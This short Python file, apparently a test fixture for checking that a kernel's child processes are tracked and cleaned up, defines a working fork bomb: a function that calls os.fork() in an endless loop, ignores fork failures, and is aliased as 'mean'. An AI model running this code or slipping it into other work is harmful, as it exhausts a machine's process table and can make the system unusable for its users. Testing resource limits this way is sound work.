"""A fork bomb that ignores that it may fork no more.

Must happen: the processes of a kernel are counted together, and end with it.
"""

# %%
import os


def bomb(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass


# %% mean
mean = bomb
